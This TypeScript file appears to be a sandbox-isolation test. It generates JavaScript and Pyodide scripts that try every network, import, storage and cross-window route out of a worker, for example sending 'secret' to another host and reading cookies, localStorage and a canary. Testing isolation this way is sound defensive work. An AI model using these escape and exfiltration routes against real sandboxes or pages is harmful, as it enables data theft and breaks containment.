/** Addresses that a program tries to reach: the book's own, and another's. */
export interface Outside {
  readonly own: string;
  readonly other: string;
}

/** The channel on which the page of a test would answer, and what it has stored and nobody may find. */
export const CHANNEL = "lookout";
export const CANARY = "canary-3141592653";

/** What workers do not offer even where nothing is forbidden, or what nobody can tell from within. */
export const NOWHERE = ["document", "windows", "storage", "beacon", "service worker", "font", "transport"];

/**
 * A JavaScript module that tries every way out, and prints "held <way>: <why>" or "ESCAPED <way>" for each. Where
 * nothing is forbidden all but `NOWHERE` escape.
 *
 * @param patience - how long to wait for a way that leads nowhere, in ms
 */
export const escapesInJavaScript = ({ own, other }: Outside, patience: number) => `
const opened = (thing, good) =>
  new Promise((resolve, reject) => {
    thing.addEventListener(good, resolve);
    thing.addEventListener("error", () => reject(new Error("closed")));
  });
const there = (things) => {
  const found = things.filter((name) => self[name] !== undefined);
  if (found.length === 0) throw new ReferenceError("none");
  console.log("found", found.join(), String(self[found[0]]));
};
const within = (code) => {
  const worker = new Worker(URL.createObjectURL(new Blob([code])));
  return new Promise((resolve, reject) => {
    worker.onmessage = ({ data }) => (data === "out" ? resolve() : reject(new Error(data)));
    worker.onerror = () => reject(new Error("broke"));
  });
};
const ways = {
  "fetch, another's": () => fetch("${other}/escape/fetch"),
  "fetch, the book's own": () => fetch("${own}/escape/fetch", { credentials: "include", mode: "no-cors" }),
  "fetch, unread": () => fetch("${other}/escape/unread", { mode: "no-cors", method: "POST", body: "secret" }),
  XMLHttpRequest: () => {
    const request = new XMLHttpRequest();
    request.open("GET", "${other}/escape/xhr", false);
    request.send();
  },
  WebSocket: () => opened(new WebSocket("${other}/escape/socket".replace("http", "ws")), "open"),
  EventSource: () => opened(new EventSource("${other}/escape/events.sse"), "message"),
  transport: () => {
    const { ready, closed } = new WebTransport("${other}/escape/transport".replace("http", "https"));
    closed.catch(() => {});
    return ready;
  },
  "import, another's": () => import("${other}/escape/module.js"),
  "import of data": () => import("data:text/javascript,export default 1"),
  importScripts: () => importScripts("${other}/escape/script.js"),
  "import by eval": () => (0, eval)('import("${other}/escape/eval.js")'),
  "fetch of a nested worker": () =>
    within('fetch("${other}/escape/nested").then(() => postMessage("out"), (e) => postMessage(e.name))'),
  "import of a nested worker": () =>
    within('try { importScripts("${other}/escape/nested.js"); postMessage("out") } catch (e) { postMessage(e.name) }'),
  beacon: () => {
    if (!navigator.sendBeacon("${other}/escape/beacon", "secret")) throw new Error("refused");
  },
  font: () => new FontFace("escape", "url(${other}/escape/font.woff2)").load(),
  windows: () => there(["window", "parent", "top", "opener", "frames"]),
  document: () => there(["document"]),
  storage: () => there(["localStorage", "sessionStorage"]),
  "service worker": () => navigator.serviceWorker.getRegistrations(),
  indexedDB: () => opened(indexedDB.open("${CHANNEL}"), "success"),
  caches: async () => console.log("found", await caches.keys()),
  "private files": () => navigator.storage.getDirectory(),
  locks: () => navigator.locks.request("${CHANNEL}", () => {}),
  "channel to the page": () => {
    const channel = new BroadcastChannel("${CHANNEL}");
    for (const wait of [0, 200, 1000]) setTimeout(() => channel.postMessage("is anyone there?"), wait);
    return opened(channel, "message");
  },
};
const tried = Object.entries(ways).map(async ([name, way]) => {
  const patience = new Promise((_, reject) => setTimeout(reject, ${patience}, new Error("no answer")));
  try {
    await Promise.race([Promise.resolve().then(way), patience]);
    return "ESCAPED " + name;
  } catch (error) {
    return "held " + name + ": " + (error?.name ?? error);
  }
});
for (const verdict of await Promise.all(tried)) console.log(verdict);
console.log("origin", self.origin);
`;

/** As many ways out of Python, told in the same words. */
export const escapesInPython = ({ own, other }: Outside) => `
import js, pyodide_js

own, other = "${own}", "${other}"

async def fetch(url):
    await js.fetch(url + "/escape/py-fetch")

async def pyfetch():
    from pyodide.http import pyfetch
    await pyfetch(other + "/escape/pyfetch")

def open_url():
    from pyodide.http import open_url
    open_url(other + "/escape/open-url")

def urllib():
    from urllib.request import urlopen
    urlopen(other + "/escape/urllib", timeout=0.5).read()

def http_client():
    from http.client import HTTPConnection
    connection = HTTPConnection(other.removeprefix("http://"), timeout=0.5)
    connection.request("GET", "/escape/client")
    connection.getresponse()

def socket():
    from socket import create_connection
    host, port = other.removeprefix("http://").split(":")
    create_connection((host, int(port)), 0.5).sendall(b"GET /escape/socket HTTP/1.0\\r\\n\\r\\n")

def request():
    request = js.XMLHttpRequest.new()
    request.open("GET", other + "/escape/py-xhr", False)
    request.send()

def web_socket():
    js.WebSocket.new(other.replace("http", "ws") + "/escape/py-socket")
    raise ConnectionError("the lookout tells")

def import_scripts():
    js.importScripts(other + "/escape/py-script.js")

async def evaluate():
    await js.eval(f'import("{other}/escape/py-eval.js")')

def document():
    print("found", js.document.title, js.document.cookie)

def windows():
    print("found", js.parent.location.href)

def storage():
    print("found", js.localStorage.getItem("canary"))

async def database():
    js.indexedDB.open("${CHANNEL}")

async def package():
    await pyodide_js.loadPackage("numpy")
    import numpy

async def wheel():
    await pyodide_js.loadPackage(other + "/escape/wheel-1-py3-none-any.whl")
    import wheel

async def micropip():
    import micropip
    await micropip.install(other + "/escape/micropip-1-py3-none-any.whl")

ways = {
    "js.fetch, another's": lambda: fetch(other), "js.fetch, the book's own": lambda: fetch(own),
    "pyfetch": pyfetch, "open_url": open_url, "urllib": urllib, "http.client": http_client, "socket": socket,
    "js.XMLHttpRequest": request, "js.WebSocket": web_socket, "js.importScripts": import_scripts,
    "js.eval": evaluate, "js.document": document, "js.parent": windows, "js.localStorage": storage,
    "js.indexedDB": database, "a package": package, "a wheel": wheel, "micropip": micropip,
}
for name, way in ways.items():
    try:
        waits = way()
        if waits is not None:
            await waits
        print("ESCAPED", name)
    except (Exception, SystemExit) as error:
        print(f"held {name}: {type(error).__name__}")
`;
